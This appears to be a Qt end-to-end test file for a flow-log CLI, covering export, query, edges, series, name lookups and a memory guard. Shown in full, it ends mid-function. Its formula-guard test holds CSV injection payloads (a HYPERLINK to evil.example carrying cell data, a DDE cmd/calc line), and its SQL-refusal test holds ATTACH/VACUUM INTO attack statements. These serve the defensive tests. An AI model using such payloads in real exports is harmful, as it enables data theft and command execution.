// flowlog-cli end to end: runs the built binary (FLOWLOG_CLI_PATH) with QProcess on the
// fixtures in tests/data/cli and checks stdout, stderr and exit codes.
#include "core/export/csv.h"
#include "core/ingest/loader.h"
#include "core/names/names.h"
#include "core/store/store.h"

#include <QBuffer>
#include <QDir>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QTemporaryDir>
#include <QTest>

namespace {

struct Run {
    int exitCode = -1;
    QByteArray out;
    QString err;
};

QString fixture(const QString& name)
{
    return QStringLiteral(FLOWLOG_TEST_DATA "/cli/") + name;
}

Run runCli(const QStringList& args, const QByteArray& input = {})
{
    QProcess p;
    p.start(QStringLiteral(FLOWLOG_CLI_PATH), args);
    Run r;
    if (!p.waitForStarted(30000)) {
        r.err = QStringLiteral("could not start ") + QStringLiteral(FLOWLOG_CLI_PATH);
        return r;
    }
    if (!input.isEmpty()) p.write(input);
    p.closeWriteChannel();
    if (!p.waitForFinished(120000)) {
        p.kill();
        p.waitForFinished();
        r.err = QStringLiteral("timed out");
        return r;
    }
    r.exitCode = p.exitStatus() == QProcess::NormalExit ? p.exitCode() : -2;
    r.out = p.readAllStandardOutput();
    r.err = QString::fromUtf8(p.readAllStandardError());
    return r;
}

QByteArray readAll(const QString& path)
{
    QFile f(path);
    return f.open(QIODevice::ReadOnly) ? f.readAll() : QByteArray();
}

QStringList tcpExportArgs()
{
    return {QStringLiteral("export"),
            QStringLiteral("--filter"),
            QStringLiteral("proto == tcp"),
            QStringLiteral("--sort"),
            QStringLiteral("bytes:desc"),
            QStringLiteral("--columns"),
            QStringLiteral("tgw_attachment_id,srcaddr,dstaddr,bytes,pkt-src-aws-service")};
}

const char* const kEdgesHeader = "src,dst,flows,packets,bytes,packets_lost_no_route,packets_lost_blackhole,"
                                 "packets_lost_mtu_exceeded,packets_lost_ttl_expired";
const char* const kSeriesHeader = "bin_start,flows,packets,bytes,packets_lost_no_route,packets_lost_blackhole,"
                                  "packets_lost_mtu_exceeded,packets_lost_ttl_expired";

} // namespace

class TestCli : public QObject {
    Q_OBJECT

private Q_SLOTS:
    void initTestCase() { QVERIFY2(QFile::exists(QStringLiteral(FLOWLOG_CLI_PATH)), FLOWLOG_CLI_PATH); }

    void summary()
    {
        const Run r = runCli({QStringLiteral("summary"), fixture(QStringLiteral("tgw.log"))});
        QVERIFY2(r.exitCode == 0, qPrintable(r.err));
        QJsonParseError pe;
        const QJsonObject o = QJsonDocument::fromJson(r.out, &pe).object();
        QCOMPARE(pe.error, QJsonParseError::NoError);
        QCOMPARE(o.value(QStringLiteral("records")).toInteger(), 5);
        QCOMPARE(o.value(QStringLiteral("rejected")).toInteger(), 0);
        QCOMPARE(o.value(QStringLiteral("first_start")).toInteger(), 1795946400);
        QCOMPARE(o.value(QStringLiteral("last_end")).toInteger(), 1795946640);
        QCOMPARE(o.value(QStringLiteral("bytes")).toInteger(), 2800);
        QCOMPARE(o.value(QStringLiteral("packets")).toInteger(), 32);
        QVERIFY(o.value(QStringLiteral("load_seconds")).isDouble());
        QVERIFY(o.value(QStringLiteral("store_bytes")).toInteger() > 0);
        QVERIFY(o.value(QStringLiteral("rejections")).isArray());
        const QJsonArray files = o.value(QStringLiteral("files")).toArray();
        QCOMPARE(files.size(), 1);
        const QJsonObject f = files.first().toObject();
        QVERIFY(f.value(QStringLiteral("path")).toString().endsWith(QLatin1String("tgw.log")));
        QVERIFY(!f.value(QStringLiteral("format")).toString().isEmpty());
        QCOMPARE(f.value(QStringLiteral("records")).toInteger(), 5);
        QCOMPARE(f.value(QStringLiteral("rejected")).toInteger(), 0);
        QVERIFY(!f.contains(QStringLiteral("error")));
    }

    void summaryWithRejections()
    {
        const Run r =
            runCli({QStringLiteral("summary"), fixture(QStringLiteral("tgw.log")), fixture(QStringLiteral("tgw_bad_lines.log"))});
        QVERIFY2(r.exitCode == 0, qPrintable(r.err));
        const QJsonObject o = QJsonDocument::fromJson(r.out).object();
        QCOMPARE(o.value(QStringLiteral("records")).toInteger(), 6);
        QCOMPARE(o.value(QStringLiteral("rejected")).toInteger(), 2);
        const QJsonArray rejections = o.value(QStringLiteral("rejections")).toArray();
        QCOMPARE(rejections.size(), 2);
        const QJsonObject first = rejections.first().toObject();
        QVERIFY(first.value(QStringLiteral("file")).toString().endsWith(QLatin1String("tgw_bad_lines.log")));
        QCOMPARE(first.value(QStringLiteral("line")).toInteger(), 3);
        QVERIFY(!first.value(QStringLiteral("reason")).toString().isEmpty());
        // The warning names file:line on stderr.
        QVERIFY2(r.err.contains(QLatin1String("tgw_bad_lines.log:3:")), qPrintable(r.err));
        QVERIFY2(r.err.contains(QLatin1String("tgw_bad_lines.log:4:")), qPrintable(r.err));
        QVERIFY2(r.err.contains(QLatin1String("2 lines could not be read")), qPrintable(r.err));
    }

    void exportStdoutEqualsKnownCsv()
    {
        const Run r = runCli(tcpExportArgs() << fixture(QStringLiteral("tgw.log")));
        QVERIFY2(r.exitCode == 0, qPrintable(r.err));
        QCOMPARE(r.out, readAll(fixture(QStringLiteral("expected_tcp_by_bytes.csv"))));
    }

    void exportSameBytesAsLibrary_data()
    {
        QTest::addColumn<QStringList>("args");
        QTest::addColumn<QString>("filter");
        QTest::addColumn<QStringList>("columns");
        QTest::addColumn<QStringList>("sort");
        QTest::addColumn<bool>("guard");
        QTest::newRow("defaults") << QStringList{} << "" << QStringList{} << QStringList{} << true;
        QTest::newRow("filter sort columns")
            << QStringList{"--filter",  "addr == 10.0.0.0/8 or drops",
                           "--sort",    "dstport:desc",
                           "--sort",    "start",
                           "--columns", "start,srcaddr,dstport,bytes,packets_lost_blackhole"}
            << "addr == 10.0.0.0/8 or drops" << QStringList{"start", "srcaddr", "dstport", "bytes", "packets_lost_blackhole"}
            << QStringList{"dstport:desc", "start"} << true;
        QTest::newRow("no guard") << QStringList{"--no-formula-guard"} << "" << QStringList{} << QStringList{} << false;
    }

    void exportSameBytesAsLibrary()
    {
        // The GUI exports through core::exportCsv; the CLI must produce the very same bytes.
        QFETCH(QStringList, args);
        QFETCH(QString, filter);
        QFETCH(QStringList, columns);
        QFETCH(QStringList, sort);
        QFETCH(bool, guard);
        const QStringList files = {fixture(QStringLiteral("tgw.log")), fixture(QStringLiteral("tgw_bad_lines.log"))};
        const Run r = runCli(QStringList{QStringLiteral("export")} + args + files);
        QVERIFY2(r.exitCode == 0, qPrintable(r.err));

        auto store = core::Store::create();
        QVERIFY(store.ok());
        core::loadPaths(*store.value(), files, core::LoadOptions{});
        core::ExportRequest request;
        request.filter = filter;
        request.columns = columns;
        for (const QString& s : sort) request.sort.push_back(core::parseSortKey(s).value());
        request.csv.guardFormulas = guard;
        QBuffer buffer;
        buffer.open(QIODevice::WriteOnly);
        QCOMPARE(core::exportCsv(*store.value(), request, buffer), core::Outcome::Ok);
        QVERIFY(buffer.data().count("\r\n") > 1);
        QCOMPARE(r.out, buffer.data());
    }

    void exportToFile()
    {
        QTemporaryDir dir;
        QVERIFY(dir.isValid());
        const QString path = dir.filePath(QStringLiteral("out.csv"));
        const Run r = runCli(tcpExportArgs() << QStringLiteral("-o") << path << fixture(QStringLiteral("tgw.log")));
        QVERIFY2(r.exitCode == 0, qPrintable(r.err));
        QVERIFY(r.out.isEmpty());
        QCOMPARE(readAll(path), readAll(fixture(QStringLiteral("expected_tcp_by_bytes.csv"))));
    }

    void exportToUnwritablePath()
    {
        QTemporaryDir dir;
        QVERIFY(dir.isValid());
        const QString path = dir.filePath(QStringLiteral("no/such/dir/out.csv"));
        const Run r = runCli(tcpExportArgs() << QStringLiteral("-o") << path << fixture(QStringLiteral("tgw.log")));
        QCOMPARE(r.exitCode, 1);
        QVERIFY2(r.err.contains(path), qPrintable(r.err));
    }

    void exportNoFormulaGuard()
    {
        const Run r = runCli({QStringLiteral("export"), QStringLiteral("--columns"), QStringLiteral("pkt_src_aws_service"),
                              QStringLiteral("--filter"), QStringLiteral("pkt_src_aws_service"),
                              QStringLiteral("--no-formula-guard"), fixture(QStringLiteral("tgw.log"))});
        QVERIFY2(r.exitCode == 0, qPrintable(r.err));
        QCOMPARE(r.out, QByteArray("pkt_src_aws_service\r\n=1+1\r\n"));
    }

    void exportFromStdin()
    {
        const Run r = runCli(tcpExportArgs() << QStringLiteral("-"), readAll(fixture(QStringLiteral("tgw.log"))));
        QVERIFY2(r.exitCode == 0, qPrintable(r.err));
        QCOMPARE(r.out, readAll(fixture(QStringLiteral("expected_tcp_by_bytes.csv"))));
    }

    void query()
    {
        const Run r = runCli({QStringLiteral("query"), QStringLiteral("--sql"),
                              QStringLiteral("SELECT log_status, count(*) AS n FROM flows GROUP BY 1 ORDER BY 1"),
                              fixture(QStringLiteral("tgw.log"))});
        QVERIFY2(r.exitCode == 0, qPrintable(r.err));
        QCOMPARE(r.out, QByteArray("log_status,n\r\nNODATA,1\r\nOK,4\r\n"));
    }

    void queryRefused_data()
    {
        QTest::addColumn<QString>("sql");
        QTest::newRow("ATTACH") << "ATTACH DATABASE '/tmp/flowlog-cli-attack.db' AS x";
        QTest::newRow("INSERT") << "INSERT INTO files(path) VALUES ('x')";
        QTest::newRow("DELETE") << "DELETE FROM files";
        QTest::newRow("VACUUM INTO") << "VACUUM INTO '/tmp/flowlog-cli-attack.db'";
        QTest::newRow("two statements") << "SELECT 1; SELECT 2";
        QTest::newRow("syntax error") << "SELEKT 1";
        QTest::newRow("unknown column") << "SELECT nope FROM flows";
    }

    void queryRefused()
    {
        QFETCH(QString, sql);
        const Run r = runCli({QStringLiteral("query"), QStringLiteral("--sql"), sql, fixture(QStringLiteral("tgw.log"))});
        QCOMPARE(r.exitCode, 2);
        QVERIFY(r.out.isEmpty());
        QVERIFY2(r.err.contains(QLatin1String("query refused")), qPrintable(r.err));
        QVERIFY(!QFile::exists(QStringLiteral("/tmp/flowlog-cli-attack.db")));
    }

    void queryTimeout()
    {
        const Run r =
            runCli({QStringLiteral("query"), QStringLiteral("--timeout"), QStringLiteral("0.3"), QStringLiteral("--sql"),
                    QStringLiteral("WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT count(*) FROM c"),
                    fixture(QStringLiteral("tgw.log"))});
        QCOMPARE(r.exitCode, 1);
        QVERIFY2(r.err.contains(QLatin1String("--timeout")), qPrintable(r.err));
    }

    void edges()
    {
        const Run r = runCli({QStringLiteral("edges"), fixture(QStringLiteral("tgw.log"))});
        QVERIFY2(r.exitCode == 0, qPrintable(r.err));
        const QList<QByteArray> lines = r.out.split('\n');
        QCOMPARE(lines.first(), QByteArray(kEdgesHeader) + '\r');
        // The flow logged at aaa and bbb counts once.
        QVERIFY2(r.out.contains("tgw-attach-aaa,tgw-attach-bbb,1,10,1000,0,0,0,0\r\n"), r.out.constData());
        QVERIFY2(r.out.contains("tgw-attach-ccc,tgw-attach-ddd,1,7,500,0,0,3,0\r\n"), r.out.constData());
        QVERIFY2(r.out.contains("tgw-attach-aaa,-,1,5,300,0,5,0,0\r\n"), r.out.constData());
    }

    void edgesWithNames()
    {
        const Run r = runCli({QStringLiteral("edges"), QStringLiteral("--names"),
                              fixture(QStringLiteral("names-attachments.json")), fixture(QStringLiteral("tgw.log"))});
        QVERIFY2(r.exitCode == 0, qPrintable(r.err));
        QVERIFY2(r.out.startsWith(QByteArray(kEdgesHeader) + ",src_name,dst_name\r\n"), r.out.constData());
        // a name with a comma is quoted; unknown ids get an empty name
        QVERIFY2(r.out.contains("tgw-attach-aaa,tgw-attach-bbb,1,10,1000,0,0,0,0,VPC A,\"on-prem, VPN\"\r\n"), r.out.constData());
        QVERIFY2(r.out.contains("tgw-attach-ccc,tgw-attach-ddd,1,7,500,0,0,3,0,,\r\n"), r.out.constData());
        QVERIFY2(r.out.contains("tgw-attach-aaa,-,1,5,300,0,5,0,0,VPC A,\r\n"), r.out.constData());
    }

    void namesJsonAmongPaths()
    {
        // describe-* JSON given as a PATH is read as names, and SQL can join the names table
        const Run r =
            runCli({QStringLiteral("query"), QStringLiteral("--sql"),
                    QStringLiteral(
                        "SELECT n.name, count(*) FROM flows f JOIN names n ON n.id = f.tgw_attachment_id GROUP BY 1 ORDER BY 1"),
                    fixture(QStringLiteral("names-attachments.json")), fixture(QStringLiteral("tgw.log"))});
        QVERIFY2(r.exitCode == 0, qPrintable(r.err));
        QVERIFY2(!r.err.contains(QStringLiteral("names-attachments.json")), qPrintable(r.err));
        QVERIFY2(r.out.contains("VPC A,2\r\n\"on-prem, VPN\",1\r\n"), r.out.constData());
        const Run s = runCli(
            {QStringLiteral("summary"), fixture(QStringLiteral("names-attachments.json")), fixture(QStringLiteral("tgw.log"))});
        QVERIFY2(s.exitCode == 0, qPrintable(s.err));
        QVERIFY2(s.out.contains("\"names\": 2"), s.out.constData());
    }

    void edgesByVpcWithFilter()
    {
        const Run r = runCli({QStringLiteral("edges"), QStringLiteral("--by"), QStringLiteral("vpc"), QStringLiteral("--filter"),
                              QStringLiteral("proto == tcp and addr == 10.0.0.0/8"), fixture(QStringLiteral("tgw.log"))});
        QVERIFY2(r.exitCode == 0, qPrintable(r.err));
        QCOMPARE(r.out, QByteArray(kEdgesHeader) + "\r\nvpc-0aaa,vpc-0bbb,1,10,1000,0,0,0,0\r\n");
    }

    void series()
    {
        const Run r = runCli({QStringLiteral("series"), QStringLiteral("--bin"), QStringLiteral("60"), QStringLiteral("--filter"),
                              QStringLiteral("log_status == OK"), fixture(QStringLiteral("tgw.log"))});
        QVERIFY2(r.exitCode == 0, qPrintable(r.err));
        QCOMPARE(r.out, QByteArray(kSeriesHeader)
                            + "\r\n"
                              "1795946400,1,10,1000,0,0,0,0\r\n"
                              "1795946460,1,5,300,0,5,0,0\r\n"
                              "1795946520,1,7,500,0,0,3,0\r\n");
    }

    void formatOptionWithEachSubcommand_data()
    {
        QTest::addColumn<QStringList>("args");
        QTest::addColumn<QByteArray>("expected");
        QTest::newRow("export") << QStringList{"export", "--columns", "srcaddr,bytes"}
                                << QByteArray("srcaddr,bytes\r\n10.0.0.1,100\r\n10.0.0.3,200\r\n");
        QTest::newRow("query") << QStringList{"query", "--sql", "SELECT sum(bytes) AS b FROM flows"}
                               << QByteArray("b\r\n300\r\n");
        QTest::newRow("summary") << QStringList{"summary"} << QByteArray("\"records\": 2");
        QTest::newRow("series") << QStringList{"series"} << QByteArray(kSeriesHeader);
        QTest::newRow("edges") << QStringList{"edges", "--by", "addr"} << QByteArray(kEdgesHeader);
    }

    void formatOptionWithEachSubcommand()
    {
        QFETCH(QStringList, args);
        QFETCH(QByteArray, expected);
        const QString file = fixture(QStringLiteral("custom_noheader.log"));
        const Run r = runCli(QStringList(args) << QStringLiteral("--format")
                                               << QStringLiteral("${version} ${srcaddr} ${dstaddr} ${bytes}") << file);
        QVERIFY2(r.exitCode == 0, qPrintable(r.err));
        QVERIFY2(r.out.contains(expected), r.out.constData());
    }

    void usageErrors_data()
    {
        QTest::addColumn<QStringList>("args");
        QTest::addColumn<QString>("message");
        const QString tgw = fixture(QStringLiteral("tgw.log"));
        QTest::newRow("no subcommand") << QStringList{} << "missing subcommand";
        QTest::newRow("unknown subcommand") << QStringList{"sumary", tgw} << "unknown subcommand 'sumary'";
        QTest::newRow("no path") << QStringList{"summary"} << "needs at least one PATH";
        QTest::newRow("unknown option") << QStringList{"export", "--colums", "a", tgw} << "unknown option '--colums'";
        QTest::newRow("missing value") << QStringList{"export", tgw, "--filter"} << "option --filter needs a value";
        QTest::newRow("option for another command")
            << QStringList{"export", "--sql", "SELECT 1", tgw} << "does not apply to 'export'";
        QTest::newRow("filter error with position") << QStringList{"export", "--filter", "srcaddr == and port == 1", tgw}
                                                    << "filter error at column 12: expected a value after '==' at 12";
        QTest::newRow("filter typo") << QStringList{"edges", "--filter", "scraddr == 10.0.0.1", tgw} << "did you mean 'srcaddr'?";
        QTest::newRow("series filter error") << QStringList{"series", "--filter", "(port == 1", tgw} << "expected ')'";
        QTest::newRow("bad sort") << QStringList{"export", "--sort", "bytes:sideways", tgw} << "sort direction";
        QTest::newRow("unknown column") << QStringList{"export", "--columns", "srcaddr,bites", tgw} << "did you mean 'bytes'?";
        QTest::newRow("bad --by") << QStringList{"edges", "--by", "planet", tgw} << "--by must be";
        QTest::newRow("bad --bin") << QStringList{"series", "--bin", "soon", tgw} << "--bin needs";
        QTest::newRow("query without sql") << QStringList{"query", tgw} << "query needs --sql";
        QTest::newRow("bad timeout") << QStringList{"query", "--sql", "SELECT 1", "--timeout", "-1", tgw} << "--timeout needs";
        QTest::newRow("names file missing") << QStringList{"summary", "--names", "x.json", tgw} << "x.json: cannot open";
        QTest::newRow("names file malformed") << QStringList{"edges", "--names", tgw, tgw} << "not valid JSON";
    }

    void usageErrors()
    {
        QFETCH(QStringList, args);
        QFETCH(QString, message);
        const Run r = runCli(args);
        QCOMPARE(r.exitCode, 2);
        QVERIFY2(r.err.contains(message), qPrintable(r.err));
        QVERIFY(r.out.isEmpty());
    }

    void nothingLoaded_data()
    {
        QTest::addColumn<QStringList>("args");
        QTest::addColumn<QString>("message");
        QTest::newRow("binary garbage") << QStringList{"summary", fixture(QStringLiteral("garbage.bin"))} << "garbage.bin";
        QTest::newRow("missing file") << QStringList{"export", fixture(QStringLiteral("does-not-exist.log"))}
                                      << "does-not-exist.log";
        QTest::newRow("headerless custom without --format")
            << QStringList{"summary", fixture(QStringLiteral("custom_noheader.log"))} << "custom_noheader.log";
    }

    void nothingLoaded()
    {
        QFETCH(QStringList, args);
        QFETCH(QString, message);
        const Run r = runCli(args);
        QCOMPARE(r.exitCode, 3);
        QVERIFY2(r.err.contains(message), qPrintable(r.err));
        QVERIFY2(r.err.contains(QLatin1String("nothing could be loaded")), qPrintable(r.err));
    }

    void partialLoadStillWorks()
    {
        // One unreadable file among good ones: exit 0, the failure is reported on stderr.
        const Run r =
            runCli({QStringLiteral("summary"), fixture(QStringLiteral("tgw.log")), fixture(QStringLiteral("garbage.bin"))});
        QVERIFY2(r.exitCode == 0, qPrintable(r.err));
        QVERIFY2(r.err.contains(QLatin1String("garbage.bin")), qPrintable(r.err));
        const QJsonObject o = QJsonDocument::fromJson(r.out).object();
        QCOMPARE(o.value(QStringLiteral("records")).toInteger(), 5);
        bool sawError = false;
        for (const QJsonValue& f : o.value(QStringLiteral("files")).toArray())
            if (f.toObject().value(QStringLiteral("path")).toString().endsWith(QLatin1String("garbage.bin")))
                sawError = !f.toObject().value(QStringLiteral("error")).toString().isEmpty();
        QVERIFY(sawError);
    }

    void help_data()
    {
        QTest::addColumn<QStringList>("args");
        QTest::newRow("--help") << QStringList{"--help"};
        QTest::newRow("-h") << QStringList{"-h"};
        QTest::newRow("export --help") << QStringList{"export", "--help"};
        QTest::newRow("query --help") << QStringList{"query", "--help"};
    }

    void help()
    {
        QFETCH(QStringList, args);
        const Run r = runCli(args);
        QCOMPARE(r.exitCode, 0);
        for (const char* word :
             {"summary", "export", "query", "edges", "series", "--filter", "--format", "--sort", "--columns",
              "--no-formula-guard", "--timeout", "--by", "--bin", "Filter language", "contains", "CIDR", "Exit codes"})
            QVERIFY2(r.out.contains(word), word);
    }

    void version()
    {
        const Run r = runCli({QStringLiteral("--version")});
        QCOMPARE(r.exitCode, 0);
        QVERIFY(r.out.startsWith("flowlog-cli " FLOWLOG_VERSION));
    }

    void exportWithNames()
    {
        const Run r =
            runCli({QStringLiteral("export"), QStringLiteral("--names"), fixture(QStringLiteral("names-attachments.json")),
                    QStringLiteral("--with-names"), QStringLiteral("--columns"),
                    QStringLiteral("tgw-attachment-id,tgw_pair_attachment_id,srcaddr,bytes"), QStringLiteral("--filter"),
                    QStringLiteral("attachment == \"VPC A\""), fixture(QStringLiteral("tgw.log"))});
        QVERIFY2(r.exitCode == 0, qPrintable(r.err));
        QVERIFY2(r.err.isEmpty(), qPrintable(r.err));
        QCOMPARE(r.out, QByteArray("tgw_attachment_id,tgw_attachment_id_name,tgw_pair_attachment_id,tgw_pair_attachment_id_name,"
                                   "srcaddr,bytes\r\n"
                                   "tgw-attach-aaa,VPC A,tgw-attach-bbb,\"on-prem, VPN\",10.0.1.5,1000\r\n"
                                   "tgw-attach-bbb,\"on-prem, VPN\",tgw-attach-aaa,VPC A,10.0.1.5,1000\r\n"
                                   "tgw-attach-aaa,VPC A,,,10.0.1.6,300\r\n"));
        // Without --with-names the ids are exported as before.
        const Run plain =
            runCli({QStringLiteral("export"), QStringLiteral("--names"), fixture(QStringLiteral("names-attachments.json")),
                    QStringLiteral("--columns"), QStringLiteral("tgw-attachment-id,bytes"), fixture(QStringLiteral("tgw.log"))});
        QVERIFY2(plain.exitCode == 0, qPrintable(plain.err));
        QVERIFY(plain.out.startsWith("tgw_attachment_id,bytes\r\ntgw-attach-aaa,1000\r\n"));
    }

    void exportWithNamesSameBytesAsLibrary_data()
    {
        QTest::addColumn<QStringList>("args");
        QTest::addColumn<QString>("filter");
        QTest::addColumn<QString>("sort");
        QTest::addColumn<bool>("guard");
        QTest::newRow("all columns") << QStringList{} << ""
                                     << "" << true;
        QTest::newRow("by name, sorted, no guard")
            << QStringList{"--filter", "attachment != \"on-prem, VPN\"", "--sort", "bytes:desc", "--no-formula-guard"}
            << "attachment != \"on-prem, VPN\""
            << "bytes:desc" << false;
    }

    void exportWithNamesSameBytesAsLibrary()
    {
        // The GUI exports through core::exportCsv with withNames; the CLI must give the same bytes.
        QFETCH(QStringList, args);
        QFETCH(QString, filter);
        QFETCH(QString, sort);
        QFETCH(bool, guard);
        const QString names = fixture(QStringLiteral("names-attachments.json"));
        const QString log = fixture(QStringLiteral("tgw.log"));
        const Run r =
            runCli(QStringList{QStringLiteral("export"), QStringLiteral("--with-names"), QStringLiteral("--names"), names} + args
                   + QStringList{log});
        QVERIFY2(r.exitCode == 0, qPrintable(r.err));

        auto store = core::Store::create();
        QVERIFY(store.ok());
        QCOMPARE(core::loadPaths(*store.value(), {log}, core::LoadOptions{}).records, 5LL);
        core::NameDirectory dir;
        QVERIFY(core::loadNamesFile(names, dir).ok());
        QVERIFY(core::storeNames(*store.value(), dir).ok());
        core::ExportRequest request;
        request.filter = filter;
        if (!sort.isEmpty()) request.sort.push_back(core::parseSortKey(sort).value());
        request.csv.guardFormulas = guard;
        request.withNames = true;
        QBuffer buffer;
        buffer.open(QIODevice::WriteOnly);
        QCOMPARE(core::exportCsv(*store.value(), request, buffer), core::Outcome::Ok);
        QVERIFY(buffer.data().contains("VPC A"));
        QCOMPARE(r.out, buffer.data());
    }

    void exportWithNamesGuardsFormulas_data()
    {
        QTest::addColumn<bool>("guard");
        QTest::addColumn<QByteArray>("cell");
        QTest::newRow("guarded") << true << QByteArray("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"");
        QTest::newRow("--no-formula-guard") << false
                                            << QByteArray("\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"");
    }

    void exportWithNamesGuardsFormulas()
    {
        // A Name tag is text anyone with ec2:CreateTags can set: it must not run in a spreadsheet.
        QFETCH(bool, guard);
        QFETCH(QByteArray, cell);
        QTemporaryDir dir;
        QVERIFY(dir.isValid());
        const QString names = dir.filePath(QStringLiteral("describe-vpcs.json"));
        QFile f(names);
        QVERIFY(f.open(QIODevice::WriteOnly));
        auto vpc = [](const char* id, const char* name) {
            return QJsonObject{{QStringLiteral("VpcId"), QLatin1String(id)},
                               {QStringLiteral("Tags"), QJsonArray{QJsonObject{{QStringLiteral("Key"), QStringLiteral("Name")},
                                                                               {QStringLiteral("Value"), QLatin1String(name)}}}}};
        };
        const QJsonObject root{
            {QStringLiteral("Vpcs"), QJsonArray{vpc("vpc-0aaa", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
                                                vpc("vpc-0bbb", "+cmd|' /C calc'!A0")}}};
        f.write(QJsonDocument(root).toJson());
        f.close();
        QStringList args{QStringLiteral("export"),    QStringLiteral("--with-names"),
                         QStringLiteral("--names"),   names,
                         QStringLiteral("--columns"), QStringLiteral("tgw_src_vpc_id,tgw_dst_vpc_id"),
                         QStringLiteral("--filter"),  QStringLiteral("bytes == 1000 and flow-direction == ingress")};
        if (!guard) args << QStringLiteral("--no-formula-guard");
        const Run r = runCli(args << fixture(QStringLiteral("tgw.log")));
        QVERIFY2(r.exitCode == 0, qPrintable(r.err));
        const QByteArray second = guard ? QByteArray("'+cmd|' /C calc'!A0") : QByteArray("+cmd|' /C calc'!A0");
        QCOMPARE(r.out, "tgw_src_vpc_id,tgw_src_vpc_id_name,tgw_dst_vpc_id,tgw_dst_vpc_id_name\r\nvpc-0aaa," + cell + ",vpc-0bbb,"
                            + second + "\r\n");
    }

    void exportWithNamesButNoNames_data()
    {
        QTest::addColumn<QStringList>("namesArgs");
        QTest::newRow("no --names") << QStringList{};
        QTest::newRow("names JSON without Name tags")
            << QStringList{"--names", QStringLiteral(FLOWLOG_TEST_DATA "/names/describe-flow-logs.json")};
    }

    void exportWithNamesButNoNames()
    {
        // Still exported (stable header, empty name columns), with a clear warning on stderr.
        QFETCH(QStringList, namesArgs);
        const Run r = runCli(QStringList{QStringLiteral("export"), QStringLiteral("--with-names"), QStringLiteral("--columns"),
                                         QStringLiteral("tgw_attachment_id,bytes"), QStringLiteral("--filter"),
                                         QStringLiteral("bytes == 300")}
                             + namesArgs + QStringList{fixture(QStringLiteral("tgw.log"))});
        QCOMPARE(r.exitCode, 0);
        QCOMPARE(r.out, QByteArray("tgw_attachment_id,tgw_attachment_id_name,bytes\r\ntgw-attach-aaa,,300\r\n"));
        QVERIFY2(r.err.contains(QLatin1String("--with-names: no Name tags are loaded")), qPrintable(r.err));
        QVERIFY2(r.err.contains(QLatin1String("--names FILE")), qPrintable(r.err));
    }

    void withNamesIsForExportOnly_data()
    {
        QTest::addColumn<QString>("command");
        QTest::newRow("edges") << "edges";
        QTest::newRow("query") << "query";
        QTest::newRow("summary") << "summary";
        QTest::newRow("series") << "series";
    }

    void withNamesIsForExportOnly()
    {
        QFETCH(QString, command);
        const Run r = runCli({command, QStringLiteral("--with-names"), QStringLiteral("--sql"), QStringLiteral("SELECT 1"),
                              fixture(QStringLiteral("tgw.log"))});
        QCOMPARE(r.exitCode, 2);
        QVERIFY2(r.err.contains(QStringLiteral("option --with-names does not apply to '%1'").arg(command)), qPrintable(r.err));
    }

    void filterByName_data()
    {
        QTest::addColumn<QString>("command");
        QTest::addColumn<QString>("filter");
        QTest::addColumn<bool>("withNames");
        QTest::addColumn<QByteArray>("expected");
        QTest::newRow("export by name") << "export"
                                        << "attachment == \"on-prem, VPN\"" << true
                                        << QByteArray("tgw_attachment_id\r\ntgw-attach-aaa\r\ntgw-attach-bbb\r\n");
        QTest::newRow("export by name, no names: nothing")
            << "export"
            << "attachment == \"on-prem, VPN\"" << false << QByteArray("tgw_attachment_id\r\n");
        QTest::newRow("export in names") << "export"
                                         << "tgw-attachment-id in {\"VPC A\", tgw-attach-eee}" << true
                                         << QByteArray(
                                                "tgw_attachment_id\r\ntgw-attach-aaa\r\ntgw-attach-aaa\r\ntgw-attach-eee\r\n");
        QTest::newRow("edges by name") << "edges"
                                       << "attachment == \"VPC A\"" << true
                                       << QByteArray(
                                              "tgw-attach-aaa,tgw-attach-bbb,1,10,1000,0,0,0,0,VPC A,\"on-prem, VPN\"\r\n");
    }

    void filterByName()
    {
        QFETCH(QString, command);
        QFETCH(QString, filter);
        QFETCH(bool, withNames);
        QFETCH(QByteArray, expected);
        QStringList args{command, QStringLiteral("--filter"), filter};
        if (command == QLatin1String("export")) args << QStringLiteral("--columns") << QStringLiteral("tgw_attachment_id");
        if (withNames) args << QStringLiteral("--names") << fixture(QStringLiteral("names-attachments.json"));
        const Run r = runCli(args << fixture(QStringLiteral("tgw.log")));
        QVERIFY2(r.exitCode == 0, qPrintable(r.err));
        if (command == QLatin1String("export")) QCOMPARE(r.out, expected);
        else QVERIFY2(r.out.contains(expected), r.out.constData());
    }

    void helpMentionsNames()
    {
        const Run r = runCli({QStringLiteral("--help")});
        QCOMPARE(r.exitCode, 0);
        for (const char* word : {"--with-names", "<column>_name", "attachment == \"VPC A\"", "case-sensitive"})
            QVERIFY2(r.out.contains(word), word);
    }

    // --- memory guard, time window and sample (--from/--to, --sample, --force) ---
private:
    /// runCli with FLOWLOG_MEMORY_LIMIT set (the available memory the CLI believes in).
    static Run runCliWithMemory(const QStringList& args, const QString& limit, const QByteArray& input = {})
    {
        QProcess p;
        QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
        env.insert(QStringLiteral("FLOWLOG_MEMORY_LIMIT"), limit);
        p.setProcessEnvironment(env);
        p.start(QStringLiteral(FLOWLOG_CLI_PATH), args);
        Run r;
        if (!p.waitForStarted(30000)) return r;
        if (!input.isEmpty()) p.write(input);
        p.closeWriteChannel();
        if (!p.waitForFinished(120000)) {
            p.kill();
            p.waitForFinished();
            return r;
        }
        r.exitCode = p.exitStatus() == QProcess::NormalExit ? p.exitCode() : -2;
        r.out = p.readAllStandardOutput();
        r.err = QString::fromUtf8(p.readAllStandardError());
        return r;
    }

private Q_SLOTS:
    void memoryGuardRefuses_data()
    {
        QTest::addColumn<QStringList>("args");
        QTest::addColumn<QString>("sentence");
        const QString log = fixture(QStringLiteral("tgw.log"));
        QTest::newRow("summary, one file") << QStringList{"summary", log} << "This file would need about";
        QTest::newRow("export, two files") << QStringList{"export", log, fixture(QStringLiteral("tgw_bad_lines.log"))}
                                           << "These 2 files would need about";
        QTest::newRow("a folder") << QStringList{"summary", QStringLiteral(FLOWLOG_TEST_DATA "/cli")} << "files would need about";
        QTest::newRow("a sample that still does not fit") << QStringList{"summary", "--sample", "2", log} << "would need about";
    }
    void memoryGuardRefuses()
    {
        QFETCH(QStringList, args);
        QFETCH(QString, sentence);
